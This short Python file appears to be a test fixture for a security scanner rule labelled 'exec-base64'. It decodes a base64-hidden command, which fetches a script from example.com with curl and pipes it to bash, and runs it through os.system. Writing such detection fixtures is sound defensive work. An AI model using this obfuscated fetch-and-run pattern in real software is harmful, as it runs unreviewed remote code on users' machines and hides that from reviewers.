# ruff: noqa
# fmt: off
"""A shell command decoded from base64 at run time."""
import base64
import os

cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5jb20vc2ggfCBiYXNo").decode("utf-8")
os.system(cmd)  # expect: exec-base64
